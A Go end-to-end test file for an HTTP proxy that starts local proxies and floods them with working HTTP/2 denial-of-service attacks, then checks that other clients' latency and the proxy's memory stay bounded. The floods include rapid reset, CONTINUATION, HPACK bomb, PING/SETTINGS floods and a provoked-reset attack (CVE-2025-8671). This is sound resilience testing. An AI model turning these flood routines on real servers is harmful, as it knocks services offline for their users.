package e2e

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sys/unix"
)

// flood sends the n-th frames of an attack on a connection.
type flood func(f *http2.Framer, request []byte, n int) error

// floods are the attacks on HTTP/2 that cost a server more than the attacker.
var floods = map[string]flood{
	"rapid reset": func(f *http2.Framer, request []byte, n int) error {
		id := uint32(2*n + 1)
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request, EndHeaders: true, EndStream: true})
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	},
	"CONTINUATION": func(f *http2.Framer, request []byte, n int) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request})
		}
		return f.WriteContinuation(1, false, []byte{0, 1, 'a', 1, 'b'})
	},
	"SETTINGS": func(f *http2.Framer, _ []byte, n int) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n % 1000)})
	},
	"PING": func(f *http2.Framer, _ []byte, n int) error { return f.WritePing(false, [8]byte{byte(n)}) },
	"empty frames": func(f *http2.Framer, request []byte, n int) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request, EndHeaders: true})
		}
		return f.WriteData(1, false, nil)
	},
	"PRIORITY": func(f *http2.Framer, _ []byte, n int) error {
		return f.WritePriority(uint32(2*n+1), http2.PriorityParam{StreamDep: uint32(2*n + 3), Weight: 1})
	},
	"PRIORITY_UPDATE": func(f *http2.Framer, _ []byte, n int) error {
		return f.WriteRawFrame(0x10, 0, 0, append([]byte{0, byte(n >> 15), byte(n >> 7), byte(n<<1 | 1)}, "u=1, i"...))
	},
	"WINDOW_UPDATE":    func(f *http2.Framer, _ []byte, n int) error { return f.WriteWindowUpdate(0, 1) },
	"acknowledgements": func(f *http2.Framer, _ []byte, n int) error { return f.WritePing(true, [8]byte{byte(n)}) },
	// CVE-2025-8671: it is the proxy that resets the stream.
	"provoked resets": func(f *http2.Framer, request []byte, n int) error {
		id := uint32(2*n + 1)
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request, EndHeaders: true})
		return f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
	},
	// A field in the table of the connection, named again and again in a byte.
	"HPACK bomb": func(f *http2.Framer, request []byte, n int) error {
		block := slices.Clone(request)
		if n == 0 {
			block = append(append(block, 0x40, 1, 'a', 0x7f, 0xa1, 0x1e), make([]byte, 4000)...) // 4000 bytes long
			for i := len(block) - 4000; i < len(block); i++ {
				block[i] = 'x'
			}
		}
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 10_000)...)
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*n + 1), BlockFragment: block, EndHeaders: true})
	},
	"windows of 0": func(f *http2.Framer, request []byte, n int) error {
		if n == 0 {
			f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*n + 1), BlockFragment: request, EndHeaders: true, EndStream: true})
	},
	"streams beyond the limit": func(f *http2.Framer, request []byte, n int) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*n + 1), BlockFragment: request, EndHeaders: true})
	},
}

// An attacker is a process of its own that yields to all others, so that what
// others feel is what it does to the proxy, not that it takes their processor.
const (
	attackVariable = "E2E_ATTACK" // environment: the flood that this process makes
	targetVariable = "E2E_TARGET"
)

// startAttack floods the proxy from a process. stop ends that, at the earliest when
// each of the attackers has lost a connection to the proxy.
func startAttack(t *testing.T, name, addr string) (stop func()) {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(self)
	cmd.Env = append(cleanEnvironment(), attackVariable+"="+name, targetVariable+"="+addr)
	cmd.Stderr = os.Stderr
	until, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	return func() {
		until.Close()
		if err := cmd.Wait(); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// runAttack is what the process of an attacker does, until its input ends.
func runAttack(name string) int {
	once := floods[name]
	if once == nil {
		return 1
	}
	unix.Setpriority(unix.PRIO_PROCESS, 0, 19)
	var over atomic.Bool
	go func() {
		io.Copy(io.Discard, os.Stdin)
		over.Store(true)
	}()
	var attackers sync.WaitGroup
	var kept atomic.Int32
	for range 2 {
		attackers.Go(func() {
			for lost := 0; lost == 0 || !over.Load(); lost++ {
				if err := attack(os.Getenv(targetVariable), once); err != nil {
					fmt.Fprintln(os.Stderr, err)
					kept.Add(1)
					return
				}
			}
		})
	}
	attackers.Wait()
	return int(kept.Load())
}

var errKept = errors.New("the proxy does not end the connection of a flood")

// attack floods the proxy over a connection until the proxy ends that.
func attack(addr string, once flood) error {
	var request bytes.Buffer
	encoder := hpack.NewEncoder(&request)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "a"}, {":path", "/"}} {
		encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * patience)) // it yields to all others
	io.WriteString(conn, http2.ClientPreface)
	framer := http2.NewFramer(conn, nil)
	framer.AllowIllegalWrites = true
	framer.WriteSettings()
	go io.Copy(io.Discard, conn)
	for n := range 1 << 20 {
		if err := once(framer, request.Bytes(), n); errors.Is(err, os.ErrDeadlineExceeded) {
			return errKept
		} else if err != nil {
			return nil
		}
	}
	return errKept
}

// mostDisturbed is by how much a flood may slow others down, at one in a hundred
// of their requests.
const mostDisturbed = 3

// mostTries is how often a flood may be tried to show that it does not.
const mostTries = 5

// Whoever floods a connection loses it, and others are served meanwhile, no slower
// than they may be, in memory that stays bounded. With PINGAP_SOAK=60s each flood
// lasts for 20 s.
func TestFloodsHurtNobodyElse(t *testing.T) {
	upstream := serve(t, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") })
	config := withH2(proxyTo(upstream))
	p, other := startProxy(t, config), startProxy(t, config)
	one, two := newClient(t), newH2CClient(t)
	length := max(soak(t)/3, 200*time.Millisecond)
	under := func(name, victim string) time.Duration {
		defer startAttack(t, name, victim)()
		return p99Of(t, p, length, one, two)
	}
	for name := range floods {
		// The machine may be busy with something else for one of them, but not
		// each time.
		for try := 1; ; try++ {
			// A flood of another proxy keeps the machine as busy.
			undisturbed := under(name, other.addr)
			disturbed := under(name, p.addr)
			t.Logf("%s: p99 of others %v, undisturbed %v; memory %d MiB", name, disturbed, undisturbed, p.memory(t)>>10)
			if disturbed <= mostDisturbed*max(undisturbed, leastP99) {
				break
			}
			if try == mostTries {
				t.Errorf("%s: p99 of others is %v, undisturbed %v", name, disturbed, undisturbed)
				break
			}
		}
	}
	if peak := p.peakMemory(t) >> 10; peak > 200 {
		t.Errorf("the process took %d MiB", peak)
	}
	p.stop(t)
}

// p99Of has clients ask for a time, with pauses that leave room for others, and
// returns the latency that one in a hundred exceeds. Each request must succeed.
func p99Of(t *testing.T, p *proxy, length time.Duration, clients ...*http.Client) time.Duration {
	t.Helper()
	var mu sync.Mutex
	var times []time.Duration
	var asking sync.WaitGroup
	until := time.Now().Add(length)
	for _, c := range clients {
		for range 4 {
			asking.Go(func() {
				for time.Now().Before(until) {
					began := time.Now()
					if err := wantOK(c, p.url("/")); err != nil {
						t.Error(err)
						return
					}
					took := time.Since(began)
					mu.Lock()
					times = append(times, took)
					mu.Unlock()
					// sleep: the pace of clients that are not the flood
					<-time.After(2 * time.Millisecond)
				}
			})
		}
	}
	asking.Wait()
	return quantile(times)
}

func wantOK(c *http.Client, url string) error {
	r, err := c.Get(url)
	if err != nil {
		return err
	}
	defer r.Body.Close()
	if b, err := io.ReadAll(r.Body); err != nil || string(b) != "ok" {
		return fmt.Errorf("%s: %q, %v", r.Status, b, err)
	}
	return nil
}
